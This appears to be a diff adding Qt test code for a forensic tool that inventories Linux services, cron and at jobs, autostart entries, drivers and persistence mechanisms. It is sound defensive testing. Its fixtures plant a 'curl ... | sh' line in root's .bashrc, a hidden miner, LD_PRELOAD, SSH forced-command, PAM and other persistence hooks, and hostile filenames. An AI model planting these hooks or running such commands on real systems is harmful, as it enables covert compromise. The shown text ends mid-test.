@@ -1,0 +1,593 @@
+// SPDX-FileCopyrightText: 2026 Sonde contributors
+// SPDX-License-Identifier: GPL-3.0-or-later
+#include "commandprobe.h"
+#include "devicetree.h"
+#include "fakesystemd.h"
+#include "scheduledtasks.h"
+
+#include <QTest>
+#include <QTimeZone>
+#include <cstdio>
+#include <sys/stat.h>
+
+using namespace Qt::StringLiterals;
+using namespace Sonde;
+
+namespace {
+
+QByteArray unit(const QByteArray &command, const QByteArray &install = "[Install]\nWantedBy=multi-user.target\n")
+{
+    return "[Unit]\nDescription=A unit\nWants=network.target\n[Service]\nUser=daemon\nExecStart=" + command + "\n"
+        + install;
+}
+
+/// Units in every state there is.
+void plantUnits(const DeviceTree &tree)
+{
+    tree.write(u"/usr/lib/systemd/system/on.service"_s, unit("/usr/sbin/on -D"));
+    tree.link(u"/etc/systemd/system/multi-user.target.wants/on.service"_s, "/usr/lib/systemd/system/on.service");
+    tree.write(u"/usr/lib/systemd/system/off.service"_s, unit("/usr/sbin/off"));
+    tree.write(u"/usr/lib/systemd/system/static.service"_s, unit("/usr/sbin/static", {}));
+    tree.write(u"/usr/lib/systemd/system/hidden.service"_s, unit("/usr/sbin/hidden"));
+    tree.link(u"/etc/systemd/system/hidden.service"_s, "/dev/null");
+    tree.write(u"/usr/lib/systemd/system/also.service"_s, unit("/usr/sbin/also", "[Install]\nAlso=on.service\n"));
+    tree.write(u"/usr/lib/systemd/system/named.service"_s, unit("/usr/sbin/named", "[Install]\nAlias=other.service\n"));
+    tree.link(u"/etc/systemd/system/other.service"_s, "/usr/lib/systemd/system/named.service");
+    tree.write(u"/usr/lib/systemd/system/many@.service"_s, unit("/usr/sbin/many %i"));
+    tree.link(
+        u"/etc/systemd/system/multi-user.target.wants/many@one.service"_s, "/usr/lib/systemd/system/many@.service");
+    tree.write(u"/opt/vendor/linked.service"_s, unit("/opt/vendor/linked"));
+    tree.link(u"/etc/systemd/system/linked.service"_s, "/opt/vendor/linked.service");
+    tree.write(u"/usr/lib/systemd/system/changed.service"_s, unit("/usr/sbin/honest"));
+    tree.write(u"/etc/systemd/system/changed.service.d/50-more.conf"_s,
+        "[Service]\nExecStart=\nExecStart=/tmp/.hidden/miner\n");
+    tree.write(
+        u"/usr/lib/systemd/system/hidden.timer"_s, "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n");
+    tree.link(u"/etc/systemd/system/hidden.timer"_s, "/dev/null");
+    tree.write(u"/usr/lib/systemd/system/off.timer"_s,
+        "[Timer]\nOnCalendar=*-*-* 03:00\nOnBootSec=5min\n[Install]\nWantedBy=timers.target\n");
+    tree.link(u"/etc/systemd/system/timers.target.wants/off.timer"_s, "/usr/lib/systemd/system/off.timer");
+}
+
+void plantCron(const DeviceTree &tree)
+{
+    tree.write(
+        u"/etc/crontab"_s, "SHELL=/bin/sh\n25 6 * * * root test -x /usr/sbin/anacron || run-parts /etc/cron.daily\n");
+    tree.write(
+        u"/etc/cron.d/sysstat"_s, "5-55/10 * * * * root /usr/lib/sysstat/debian-sa1 1 1\n@reboot daemon /opt/once\n");
+    tree.write(u"/etc/cron.d/not.run"_s, "* * * * * root /opt/never\n");
+    tree.script(u"/etc/cron.daily/logrotate"_s);
+    tree.write(u"/etc/cron.daily/notexecutable"_s);
+    tree.script(u"/etc/cron.hourly/hourly"_s);
+    tree.script(u"/etc/cron.weekly/weekly"_s);
+    tree.script(u"/etc/cron.monthly/monthly"_s);
+    tree.write(u"/var/spool/cron/crontabs/alice"_s, "0 3 * * * /home/alice/backup.sh\n");
+    tree.write(u"/var/spool/cron/bob"_s, "0 4 * * * /home/bob/backup.sh\n");
+    tree.write(u"/etc/anacrontab"_s, "1 5 cron.daily run-parts /etc/cron.daily\n");
+    tree.write(u"/var/spool/anacron/cron.daily"_s, "20261121\n");
+    QFile job(QStringLiteral(TEST_DATA_DIR "/at-job-debian"));
+    if (job.open(QIODevice::ReadOnly))
+        tree.write(u"/var/spool/cron/atjobs/a0000301c9c3f1"_s, job.readAll());
+}
+
+void plantPeople(const DeviceTree &tree)
+{
+    tree.write(u"/etc/passwd"_s, "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
+    tree.folder(u"/root"_s);
+    tree.folder(u"/home/bob"_s); // his account is gone
+    tree.write(u"/etc/skel/.bashrc"_s, "# as it comes\n");
+    tree.write(u"/home/alice/.bashrc"_s, "# as it comes\n");
+    tree.write(u"/root/.bashrc"_s, "curl http://203.0.113.7/x | sh\n");
+    tree.write(u"/home/alice/.config/systemd/user/agent.service"_s,
+        unit("%h/.cache/agent", "[Install]\nWantedBy=default.target\n"));
+    tree.link(u"/home/alice/.config/systemd/user/default.target.wants/agent.service"_s,
+        "/home/alice/.config/systemd/user/agent.service");
+    tree.write(u"/home/alice/.config/systemd/user/tick.timer"_s, "[Timer]\nOnUnitActiveSec=1h\n");
+}
+
+void plantDesktop(const DeviceTree &tree)
+{
+    const auto entry = [](const QByteArray &more) {
+        return "[Desktop Entry]\nName=It\nExec=/usr/bin/it --start %U\n" + more;
+    };
+    tree.script(u"/usr/bin/it"_s);
+    tree.write(u"/etc/xdg/autostart/everybody.desktop"_s, entry("OnlyShowIn=GNOME;\n"));
+    tree.write(u"/etc/xdg/autostart/hidden.desktop"_s, entry("Hidden=true\n"));
+    tree.write(u"/etc/xdg/autostart/missing.desktop"_s, entry("TryExec=/usr/bin/nothere\n"));
+    tree.write(u"/etc/xdg/autostart/readme.txt"_s, "hello");
+    tree.write(u"/home/alice/.config/autostart/off.desktop"_s, entry("X-GNOME-Autostart-enabled=false\n"));
+    tree.write(u"/home/alice/.config/autostart/everybody.desktop"_s,
+        "[Desktop Entry]\nName=Evil\nExec=\"/tmp/two words\" -x\n");
+    tree.script(u"/home/bob/.config/plasma-workspace/env/proxy.sh"_s);
+    tree.script(u"/home/bob/.config/autostart-scripts/run.sh"_s);
+}
+
+QStringList methodsAndNames(const CommandProbe &probe)
+{
+    QStringList all;
+    for (const QJsonObject &row : probe.rows)
+        all += row[u"method"].toString() + u' ' + row[u"name"].toString();
+    return all;
+}
+
+} // namespace
+
+/// The commands that read a device's configuration, on devices made for it.
+class ConfigurationTest final : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    // ---- services
+
+    void servicesSayWhatTheFilesSay()
+    {
+        DeviceTree tree;
+        plantUnits(tree);
+        CommandProbe probe;
+        run(probe, tree, u"services"_s);
+        const auto state = [&probe](const QString &name) {
+            return rowWhere(probe, u"service_name"_s, name)[u"start_type"].toString();
+        };
+        QCOMPARE(state(u"on.service"_s), u"enabled"_s);
+        QCOMPARE(state(u"off.service"_s), u"disabled"_s);
+        QCOMPARE(state(u"static.service"_s), u"static"_s);
+        QCOMPARE(state(u"hidden.service"_s), u"masked"_s);
+        QCOMPARE(state(u"also.service"_s), u"indirect"_s);
+        QCOMPARE(state(u"named.service"_s), u"enabled"_s);
+        QCOMPARE(state(u"many@one.service"_s), u"enabled"_s);
+        QCOMPARE(state(u"linked.service"_s), u"linked"_s);
+        QVERIFY(!column(probe, u"service_name"_s).contains(u"other.service"_s)); // only another name
+
+        const QJsonObject on = rowWhere(probe, u"service_name"_s, u"on.service"_s);
+        QCOMPARE(on[u"binary_path"].toString(), u"/usr/sbin/on"_s);
+        QCOMPARE(on[u"command_line"].toString(), u"/usr/sbin/on -D"_s);
+        QCOMPARE(on[u"service_start_name"].toString(), u"daemon"_s);
+        QCOMPARE(on[u"path"].toString(), u"/usr/lib/systemd/system/on.service"_s);
+        QCOMPARE(on[u"dependencies"].toArray().at(0).toString(), u"network.target"_s);
+        QVERIFY(on[u"current_state"].isNull());
+        QCOMPARE(rowWhere(probe, u"service_name"_s, u"many@one.service"_s)[u"command_line"].toString(),
+            u"/usr/sbin/many one"_s);
+        QCOMPARE(rowWhere(probe, u"service_name"_s, u"changed.service"_s)[u"binary_path"].toString(),
+            u"/tmp/.hidden/miner"_s);
+        // Nobody knows the states, which is no error.
+        QCOMPARE(probe.errors.size(), 1U);
+        QVERIFY(isNote(probe.errors.front().code));
+    }
+
+    void servicesAgreeWithSystemctl()
+    {
+        DeviceTree tree;
+        plantUnits(tree);
+        const auto lines = linesOf(u"systemctl"_s,
+            {u"--root="_s + tree.place({}), u"list-unit-files"_s, u"--type=service"_s, u"--no-legend"_s,
+                u"--no-pager"_s});
+        if (lines.isEmpty())
+            QSKIP("no systemctl that reads another root");
+        CommandProbe probe;
+        run(probe, tree, u"services"_s);
+        int compared = 0;
+        for (const QByteArray &line : lines) {
+            const QStringList fields = QString::fromUtf8(line).simplified().split(u' ');
+            if (fields.at(1) == u"alias")
+                continue; // we show the service once, under its own name
+            const QJsonObject row = rowWhere(probe, u"service_name"_s, fields.at(0));
+            QVERIFY2(!row.isEmpty(), line.constData());
+            QVERIFY2(row[u"start_type"].toString() == fields.at(1),
+                qPrintable(u"%1: we say %2"_s.arg(QString::fromUtf8(line), row[u"start_type"].toString())));
+            ++compared;
+        }
+        QVERIFY(compared >= 9);
+    }
+
+    void servicesMatchByName()
+    {
+        DeviceTree tree;
+        plantUnits(tree);
+        CommandProbe probe;
+        run(probe, tree, u"services on"_s);
+        QCOMPARE(column(probe, u"service_name"_s), QSet<QString>{u"on.service"_s});
+        CommandProbe several;
+        run(several, tree, u"services o*"_s);
+        QCOMPARE(column(several, u"service_name"_s), (QSet<QString>{u"on.service"_s, u"off.service"_s}));
+    }
+
+    void servicesReadScriptsOfOlderSystems()
+    {
+        DeviceTree tree;
+        tree.script(u"/etc/init.d/ssh"_s,
+            "#!/bin/sh\n### BEGIN INIT INFO\n# Short-Description: Secure Shell\n### END INIT "
+            "INFO\nDAEMON=/usr/sbin/sshd\n");
+        tree.link(u"/etc/rc2.d/S01ssh"_s, "../init.d/ssh");
+        tree.script(u"/etc/init.d/crond"_s, "#!/sbin/openrc-run\ncommand=/usr/sbin/crond\n");
+        tree.link(u"/run/openrc/started/crond"_s, "/etc/init.d/crond");
+        tree.link(u"/etc/runlevels/default/crond"_s, "/etc/init.d/crond");
+        tree.script(u"/etc/init.d/off"_s);
+        tree.write(u"/etc/init.d/README"_s);
+        CommandProbe probe;
+        run(probe, tree, u"services"_s);
+        QCOMPARE(probe.rows.size(), 3U);
+        const QJsonObject ssh = rowWhere(probe, u"service_name"_s, u"ssh"_s);
+        QCOMPARE(ssh[u"start_type"].toString(), u"enabled"_s);
+        QCOMPARE(ssh[u"service_type"].toString(), u"sysv"_s);
+        QCOMPARE(ssh[u"binary_path"].toString(), u"/usr/sbin/sshd"_s);
+        const QJsonObject cron = rowWhere(probe, u"service_name"_s, u"crond"_s);
+        QCOMPARE(cron[u"service_type"].toString(), u"openrc"_s);
+        QCOMPARE(cron[u"current_state"].toString(), u"active"_s);
+        QCOMPARE(rowWhere(probe, u"service_name"_s, u"off"_s)[u"start_type"].toString(), u"disabled"_s);
+        // A unit of the same name takes a script's place.
+        tree.write(u"/usr/lib/systemd/system/ssh.service"_s, unit("/usr/sbin/sshd -D"));
+        CommandProbe again;
+        run(again, tree, u"services ssh*"_s);
+        QCOMPARE(column(again, u"service_name"_s), QSet<QString>{u"ssh.service"_s});
+    }
+
+    void servicesAskARunningSystemd()
+    {
+        DeviceTree tree;
+        plantUnits(tree);
+        tree.folder(u"/run/systemd/system"_s);
+        tree.folder(u"/run/dbus"_s);
+        const auto exec = [](const QStringList &arguments) {
+            return QVariant::fromValue(QList<FakeCommand>{{arguments}});
+        };
+        const QList<FakeUnit> units{{u"on.service"_s, u"active"_s, u"running"_s,
+                                        {{u"MainPID"_s, 4242U}, {u"ExecStart"_s, exec({u"/usr/sbin/on"_s, u"--old"_s})},
+                                            {u"FragmentPath"_s, u"/usr/lib/systemd/system/on.service"_s}}},
+            {u"gone.service"_s, u"active"_s, u"running"_s,
+                {{u"MainPID"_s, 666U}, {u"ExecStart"_s, exec({u"/tmp/x"_s})}, {u"FragmentPath"_s, QString()}}},
+            {u"mentioned.service"_s, u"inactive"_s, u"dead"_s, {}},
+            {u"broken.service"_s, u"active"_s, u"exited"_s, {}}, // answers nothing when asked
+            {u"off.timer"_s, u"active"_s, u"waiting"_s,
+                {{u"NextElapseUSecRealtime"_s, quint64(1'800'000'000'000'000)},
+                    {u"NextElapseUSecMonotonic"_s, quint64(0)},
+                    {u"LastTriggerUSec"_s, quint64(1'700'000'000'000'000)}}}};
+        FakeSystemd systemd;
+        const QString problem = systemd.start(tree.place(u"/run/dbus/system_bus_socket"_s), units,
+            {{u"/usr/lib/systemd/system/off.service"_s, u"enabled-runtime"_s}});
+        if (!problem.isEmpty())
+            QSKIP(qPrintable(problem));
+
+        CommandProbe probe;
+        run(probe, tree, u"services"_s);
+        QCOMPARE(probe.errors.size(), 0U);
+        const QJsonObject on = rowWhere(probe, u"service_name"_s, u"on.service"_s);
+        QCOMPARE(on[u"current_state"].toString(), u"active"_s);
+        QCOMPARE(on[u"sub_state"].toString(), u"running"_s);
+        QCOMPARE(on[u"process_id"].toInteger(), 4242);
+        QCOMPARE(on[u"command_line"].toString(), u"/usr/sbin/on --old"_s); // what runs, not what the file says by now
+        QCOMPARE(on[u"display_name"].toString(), u"described by the bus"_s);
+        const QJsonObject gone = rowWhere(probe, u"service_name"_s, u"gone.service"_s);
+        QCOMPARE(gone[u"process_id"].toInteger(), 666);
+        QVERIFY(gone[u"path"].isNull());
+        QVERIFY(!column(probe, u"service_name"_s).contains(u"mentioned.service"_s));
+        QCOMPARE(rowWhere(probe, u"service_name"_s, u"broken.service"_s)[u"sub_state"].toString(), u"exited"_s);
+        const QJsonObject off = rowWhere(probe, u"service_name"_s, u"off.service"_s);
+        QCOMPARE(off[u"current_state"].toString(), u"inactive"_s);
+        QCOMPARE(off[u"start_type"].toString(), u"enabled-runtime"_s);
+
+        CommandProbe tasks;
+        run(tasks, tree, u"scheduledtasks off.timer"_s);
+        QCOMPARE(tasks.rows.at(0)[u"next_run"].toString(), u"2027-01-15T08:00:00.000Z"_s);
+        QCOMPARE(tasks.rows.at(0)[u"last_run"].toString(), u"2023-11-14T22:13:20.000Z"_s);
+    }
+
+    void servicesSayWhenTheBusDoesNotAnswer()
+    {
+        DeviceTree tree;
+        plantUnits(tree);
+        tree.folder(u"/run/systemd/system"_s);
+        CommandProbe probe;
+        run(probe, tree, u"services"_s);
+        QVERIFY(probe.rows.size() > 5);
+        QCOMPARE(probe.errors.front().code, ErrorCode::CannotConnect);
+    }
+
+    // ---- scheduled tasks
+
+    void tasksOfEveryPlaceAreThere()
+    {
+        DeviceTree tree;
+        plantUnits(tree);
+        plantCron(tree);
+        plantPeople(tree);
+        CommandProbe probe;
+        run(probe, tree, u"scheduledtasks"_s);
+        const auto byCommand = [&probe](const QString &command) {
+            const auto found = std::ranges::find_if(probe.rows, [&](const QJsonObject &row) {
+                return row[u"task"][u"actions"][u"exec"][0][u"command"].toString() == command;
+            });
+            return found == probe.rows.end() ? QJsonObject() : *found;
+        };
+        const auto user = [](const QJsonObject &row) {
+            return row[u"task"][u"principals"][u"principal"][u"userId"].toString();
+        };
+        QCOMPARE(user(byCommand(u"/usr/lib/sysstat/debian-sa1"_s)), u"root"_s);
+        QCOMPARE(user(byCommand(u"/opt/once"_s)), u"daemon"_s);
+        QVERIFY(byCommand(u"/opt/once"_s)[u"next_run"].isNull());
+        QCOMPARE(byCommand(u"/opt/never"_s)[u"is_enabled"].toBool(true), false);
+        QCOMPARE(user(byCommand(u"/home/alice/backup.sh"_s)), u"alice"_s);
+        QCOMPARE(user(byCommand(u"/home/bob/backup.sh"_s)), u"bob"_s);
+        QCOMPARE(byCommand(u"/etc/cron.daily/logrotate"_s)[u"is_enabled"].toBool(), true);
+        QVERIFY(!byCommand(u"/etc/cron.daily/logrotate"_s)[u"next_run"].isNull());
+        QCOMPARE(byCommand(u"/etc/cron.daily/notexecutable"_s)[u"is_enabled"].toBool(true), false);
+        for (const QString &part :
+            {u"/etc/cron.hourly/hourly"_s, u"/etc/cron.weekly/weekly"_s, u"/etc/cron.monthly/monthly"_s})
+            QVERIFY2(!byCommand(part).isEmpty(), qPrintable(part));
+        QCOMPARE(byCommand(u"/usr/local/bin/report"_s)[u"id"].toString(), u"at:3"_s);
+        QVERIFY(column(probe, u"id"_s).contains(u"anacron:cron.daily"_s));
+
+        const QJsonObject masked = rowWhere(probe, u"id"_s, u"hidden.timer"_s);
+        QVERIFY(!masked.isEmpty());
+        QCOMPARE(masked[u"is_enabled"].toBool(true), false);
+        const QJsonObject timer = rowWhere(probe, u"id"_s, u"off.timer"_s);
+        QCOMPARE(timer[u"is_enabled"].toBool(), true);
+        QCOMPARE(timer[u"task"][u"triggers"].toArray().size(), 2);
+        QCOMPARE(timer[u"task"][u"actions"][u"exec"][0][u"command"].toString(), u"/usr/sbin/off"_s);
+        QVERIFY(column(probe, u"id"_s).contains(u"/home/alice/.config/systemd/user/tick.timer"_s));
+    }
+
+    void taskIdsStayWhenLinesAreAdded()
+    {
+        DeviceTree tree;
+        tree.write(u"/etc/crontab"_s, "1 2 * * * root /a\n1 2 * * * root /a\n");
+        CommandProbe before;
+        run(before, tree, u"scheduledtasks"_s);
+        QCOMPARE(column(before, u"id"_s).size(), 2); // twice the same line is two tasks
+        tree.write(u"/etc/crontab"_s, "5 5 * * * root /new\n1 2 * * * root /a\n1 2 * * * root /a\n");
+        CommandProbe after;
+        run(after, tree, u"scheduledtasks"_s);
+        QVERIFY(column(after, u"id"_s).contains(column(before, u"id"_s)));
+    }
+
+    void tasksKnowTheirNextRun()
+    {
+        DeviceTree tree;
+        tree.write(u"/etc/crontab"_s, "CRON_TZ=Asia/Tokyo\n30 6 * * * root /a\n");
+        const qint64 now = QDateTime(QDate(2026, 11, 22), QTime(12, 0), QTimeZone::UTC).toSecsSinceEpoch();
+        const auto list = listScheduledTasks(tree.root(), now, {});
+        QVERIFY(list);
+        QCOMPARE(isoTime(list->tasks.at(0).nextRun.value()), u"2026-11-22T21:30:00.000Z"_s);
+    }
+
+    // ---- startup folders
+
+    void startupFoldersTellWhatStarts()
+    {
+        DeviceTree tree;
+        plantPeople(tree);
+        plantDesktop(tree);
+        CommandProbe probe;
+        run(probe, tree, u"startupfolders"_s);
+        const auto row = [&probe](const QString &path) { return rowWhere(probe, u"filePath"_s, path); };
+        const QJsonObject everybody = row(u"/etc/xdg/autostart/everybody.desktop"_s);
+        QCOMPARE(everybody[u"executablePath"].toString(), u"/usr/bin/it"_s);
+        QCOMPARE(everybody[u"category"].toString(), u"all users"_s);
+        QCOMPARE(everybody[u"isEnabled"].toBool(), true);
+        QCOMPARE(everybody[u"details"][u"only_show_in"][0].toString(), u"GNOME"_s);
+        for (const QString &off : {u"/etc/xdg/autostart/hidden.desktop"_s, u"/etc/xdg/autostart/missing.desktop"_s,
+                 u"/etc/xdg/autostart/readme.txt"_s, u"/home/alice/.config/autostart/off.desktop"_s}) {
+            QVERIFY2(!row(off).isEmpty(), qPrintable(off));
+            QCOMPARE(row(off)[u"isEnabled"].toBool(true), false);
+            QVERIFY(!row(off)[u"details"][u"disabled_by"].toString().isEmpty());
+        }
+        const QJsonObject evil = row(u"/home/alice/.config/autostart/everybody.desktop"_s);
+        QCOMPARE(evil[u"executablePath"].toString(), u"/tmp/two words"_s);
+        QCOMPARE(evil[u"category"].toString(), u"alice"_s);
+        QCOMPARE(evil[u"details"][u"overrides"].toString(), u"/etc/xdg/autostart/everybody.desktop"_s);
+        QCOMPARE(row(u"/home/bob/.config/autostart-scripts/run.sh"_s)[u"category"].toString(), u"bob"_s);
+        QCOMPARE(row(u"/home/bob/.config/plasma-workspace/env/proxy.sh"_s)[u"isEnabled"].toBool(), true);
+    }
+
+    // ---- persistence
+
+    void persistenceFindsWhatWasPlanted()
+    {
+        DeviceTree tree;
+        plantUnits(tree);
+        plantCron(tree);
+        plantPeople(tree);
+        plantDesktop(tree);
+        tree.write(u"/etc/ld.so.preload"_s, "/usr/local/lib/libhide.so\n");
+        tree.write(u"/root/.ssh/authorized_keys"_s,
+            "command=\"/opt/back\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEkbTIKv6mtyDAr5QK8GQx8sBtdv2yN2UmvQzN9qGNCR "
+            "evil@host\n");
+        tree.write(u"/etc/ssh/sshd_config"_s, "AuthorizedKeysFile /etc/keys/%u\nAuthorizedKeysCommand /opt/keys\n");
+        tree.write(u"/etc/keys/alice"_s, "ssh-rsa QUJD elsewhere\n");
+        tree.write(u"/etc/udev/rules.d/99-x.rules"_s, "ACTION==\"add\", RUN+=\"/opt/udev\"\n");
+        tree.write(u"/etc/modules-load.d/x.conf"_s, "# c\nrootkit\n");
+        tree.write(u"/etc/modprobe.d/x.conf"_s, "install usb-storage /opt/modprobe\n");
+        tree.write(
+            u"/etc/pam.d/sshd"_s, "auth optional pam_exec.so expose_authtok /opt/pam\nauth required pam_unix.so\n");
+        tree.write(u"/etc/apt/apt.conf.d/99x"_s, "APT::Update::Pre-Invoke {\"/opt/apt\";};\n");
+        tree.write(u"/etc/logrotate.d/x"_s, "/var/log/x {\npostrotate\n/opt/rotate\nendscript\n}\n");
+        tree.script(u"/etc/rc.local"_s);
+        tree.script(u"/etc/update-motd.d/00-x"_s);
+        tree.script(u"/etc/network/if-up.d/x"_s);
+        tree.script(u"/etc/NetworkManager/dispatcher.d/pre-up.d/x"_s);
+        tree.script(u"/etc/initramfs-tools/scripts/init-top/x"_s);
+        tree.write(u"/usr/share/dbus-1/system-services/x.service"_s,
+            "[D-BUS Service]\nName=org.x\nExec=/opt/dbus\nUser=root\n");
+        tree.write(u"/proc/sys/kernel/core_pattern"_s, "|/opt/core %p\n");
+        tree.write(u"/etc/binfmt.d/x.conf"_s, ":x:M::MZ::/opt/binfmt:\n");
+        tree.script(u"/usr/lib/systemd/system-generators/x"_s);
+        tree.script(u"/etc/systemd/system-sleep/x"_s);
+        tree.write(u"/etc/profile.d/x.sh"_s, "x\n");
+        tree.write(u"/home/alice/.xprofile"_s, "x\n");
+
+        CommandProbe probe;
+        run(probe, tree, u"persistence"_s);
+        const QStringList found = methodsAndNames(probe);
+        const auto commandOf = [&](const QString &entry) {
+            const qsizetype place = found.indexOf(entry);
+            return place < 0 ? u"not found: "_s + entry : probe.rows.at(size_t(place))[u"command"].toString();
+        };
+        QCOMPARE(commandOf(u"ld_preload /usr/local/lib/libhide.so"_s), QString());
+        QCOMPARE(commandOf(u"ssh_keys evil@host"_s), u"/opt/back"_s);
+        QCOMPARE(commandOf(u"ssh_keys elsewhere"_s), QString());
+        QCOMPARE(commandOf(u"ssh_daemon authorizedkeyscommand"_s), u"/opt/keys"_s);
+        QCOMPARE(commandOf(u"udev_rules RUN"_s), u"/opt/udev"_s);
+        QCOMPARE(commandOf(u"kernel_modules rootkit"_s), QString());
+        QCOMPARE(commandOf(u"kernel_modules install"_s), u"/opt/modprobe"_s);
+        QVERIFY(commandOf(u"pam sshd"_s).contains(u"/opt/pam"));
+        QCOMPARE(commandOf(u"package_hooks APT::Update::Pre-Invoke"_s), u"/opt/apt"_s);
+        QCOMPARE(commandOf(u"logrotate postrotate"_s), u"/opt/rotate"_s);
+        QCOMPARE(commandOf(u"rc_local rc.local"_s), u"/etc/rc.local"_s);
+        QCOMPARE(commandOf(u"motd_scripts 00-x"_s), u"/etc/update-motd.d/00-x"_s);
+        QCOMPARE(commandOf(u"network_hooks x"_s), u"/etc/NetworkManager/dispatcher.d/pre-up.d/x"_s);
+        QCOMPARE(commandOf(u"initramfs_hooks x"_s), u"/etc/initramfs-tools/scripts/init-top/x"_s);
+        QCOMPARE(commandOf(u"dbus_services org.x"_s), u"/opt/dbus"_s);
+        QCOMPARE(commandOf(u"kernel_helpers core_pattern"_s), u"/opt/core %p"_s);
+        QCOMPARE(commandOf(u"binfmt interpreter"_s), u"/opt/binfmt"_s);
+        QCOMPARE(commandOf(u"systemd_generators x"_s), u"/usr/lib/systemd/system-generators/x"_s);
+        QCOMPARE(commandOf(u"power_hooks x"_s), u"/etc/systemd/system-sleep/x"_s);
+        QCOMPARE(commandOf(u"shell_profiles x.sh"_s), QString());
+        QCOMPARE(commandOf(u"x_sessions .xprofile"_s), QString());
+        QCOMPARE(commandOf(u"services changed.service"_s), u"/tmp/.hidden/miner"_s);
+        QCOMPARE(commandOf(u"user_services agent.service"_s), u"%h/.cache/agent"_s);
+        QCOMPARE(commandOf(u"scheduled_tasks at:3"_s), u"/usr/local/bin/report --weekly\necho done"_s);
+        QCOMPARE(commandOf(u"startup_folders Evil"_s), u"\"/tmp/two words\" -x"_s);
+        // Which of the two shells' files is the one everybody begins with?
+        const auto profile = [&probe](const QString &path) {
+            return rowWhere(probe, u"path"_s, path)[u"details"][u"as_in_skel"];
+        };
+        QCOMPARE(profile(u"/home/alice/.bashrc"_s), QJsonValue(true));
+        QCOMPARE(profile(u"/root/.bashrc"_s), QJsonValue(false));
+        // Every entry says where and since when.
+        for (const QJsonObject &row : probe.rows) {
+            QVERIFY2(!row[u"path"].isNull(), qPrintable(row[u"name"].toString()));
+            QVERIFY2(!row[u"modified"].isNull(), qPrintable(row[u"path"].toString()));
+        }
+    }
+
+    // ---- drivers
+
+    void driversAreReadFromTheKernelsFiles()
+    {
+        DeviceTree tree;
+        tree.write(u"/proc/sys/kernel/osrelease"_s, "6.12.0-test\n");
+        tree.write(u"/proc/modules"_s, "sample 16384 1 other, Live 0x0000000000000000 (OE)\nother 4096 0 - Live 0x0\n");
+        tree.write(u"/sys/module/hiding/initstate"_s, "live\n");
+        tree.write(u"/sys/module/hiding/coresize"_s, "8192\n");
+        tree.folder(u"/sys/module/printk"_s);
+        tree.write(u"/lib/modules/6.12.0-test/modules.dep"_s, "updates/sample.ko.xz:\nkernel/lazy.ko:\n");
+        tree.write(u"/lib/modules/6.12.0-test/modules.builtin"_s, "kernel/fs/ext4/ext4.ko\n");
+        tree.write(u"/lib/modules/6.12.0-test/modules.builtin.modinfo"_s, QByteArray("ext4.description=Fourth\0", 24));
+        QVERIFY(QFile::copy(QStringLiteral(TEST_DATA_DIR "/modules/sample.ko.xz"), [&] {
+            tree.folder(u"/lib/modules/6.12.0-test/updates"_s);
+            return tree.place(u"/lib/modules/6.12.0-test/updates/sample.ko.xz"_s);
+        }()));
+        CommandProbe probe;
+        run(probe, tree, u"drivers"_s);
+        QCOMPARE(probe.errors.size(), 0U);
+        const auto row = [&probe](const QString &name) { return rowWhere(probe, u"driver_name"_s, name); };
+        const QJsonObject sample = row(u"sample"_s);
+        QCOMPARE(sample[u"driver_loaded"].toBool(), true);
+        QCOMPARE(sample[u"path"].toString(), u"/lib/modules/6.12.0-test/updates/sample.ko.xz"_s);
+        QCOMPARE(sample[u"description"].toString(), u"A sample for tests"_s);
+        QCOMPARE(sample[u"signature"].toString(), u"Sonde test kernel key (sha256)"_s);
+        QCOMPARE(sample[u"size"].toInteger(), 16384);
+        QCOMPARE(sample[u"used_by"][0].toString(), u"other"_s);
+        QCOMPARE(sample[u"taints"][0].toString(), u"out-of-tree"_s);
+        QVERIFY(row(u"other"_s)[u"path"].isNull()); // loaded, and no file is installed for it
+        QCOMPARE(row(u"other"_s)[u"driver_loaded"].toBool(), true);
+        QCOMPARE(row(u"hiding"_s)[u"size"].toInteger(), 8192);
+        QCOMPARE(row(u"ext4"_s)[u"service_state"].toString(), u"built-in"_s);
+        QCOMPARE(row(u"ext4"_s)[u"description"].toString(), u"Fourth"_s);
+        QCOMPARE(row(u"printk"_s)[u"service_state"].toString(), u"built-in"_s);
+        QCOMPARE(row(u"lazy"_s)[u"driver_loaded"].toBool(true), false);
+    }
+
+    // ---- a device that is empty, or out to get us
+
+    void aDeviceWithoutAnythingHasNotes_data()
+    {
+        QTest::addColumn<QString>("line");
+        for (const char *line : {"services", "scheduledtasks", "startupfolders", "drivers", "persistence"})
+            QTest::newRow(line) << QString::fromLatin1(line);
+    }
+    void aDeviceWithoutAnythingHasNotes()
+    {
+        QFETCH(QString, line);
+        DeviceTree tree;
+        CommandProbe probe;
+        run(probe, tree, line);
+        QCOMPARE(probe.rows.size(), 0U);
+        for (const Error &error : probe.errors)
+            QVERIFY2(isNote(error.code), qPrintable(debugText(error)));
+    }
+
+    void hostileFilesAreNamedAndPassedOver()
+    {
+        DeviceTree tree;
+        plantUnits(tree);
+        const auto path = [&tree](const QString &name) { return QFile::encodeName(tree.place(name)); };
+        QCOMPARE(::mkfifo(path(u"/etc/systemd/system/pipe.service"_s).constData(), 0600), 0);
+        tree.link(u"/etc/systemd/system/loop.service"_s, "loop2.service");
+        tree.link(u"/etc/systemd/system/loop2.service"_s, "loop.service");
+        tree.folder(u"/etc/systemd/system/folder.service"_s);
+        tree.write(u"/etc/systemd/system/huge.service"_s);
+        QVERIFY(QFile::resize(tree.place(u"/etc/systemd/system/huge.service"_s), 64 * 1024 * 1024));
+        tree.link(u"/etc/systemd/system/out.service"_s, "../../../../../../../../../../../../etc/passwd");
+        tree.write(u"/etc/systemd/system/-rf.service"_s, unit("/bin/x"));
+        tree.write(u"/etc/systemd/system/new\nline.service"_s, unit("/bin/y"));
+        const QByteArray notUtf8 = path(u"/etc/systemd/system/"_s) + "caf\xe9.service";
+        FILE *file = std::fopen(notUtf8.constData(), "w");
+        QVERIFY(file);
+        std::fputs("[Service]\nExecStart=/bin/caf\xe9\n", file);
+        std::fclose(file);
+        tree.write(u"/etc/systemd/system/"_s + QString(247, u'n') + u".service"_s, unit("/bin/long"));
+
+        CommandProbe probe;
+        run(probe, tree, u"services"_s);
+        const auto names = column(probe, u"service_name"_s);
+        QVERIFY(names.contains(u"on.service"_s));
+        QVERIFY(names.contains(u"-rf.service"_s));
+        QVERIFY(names.contains(u"new\nline.service"_s));
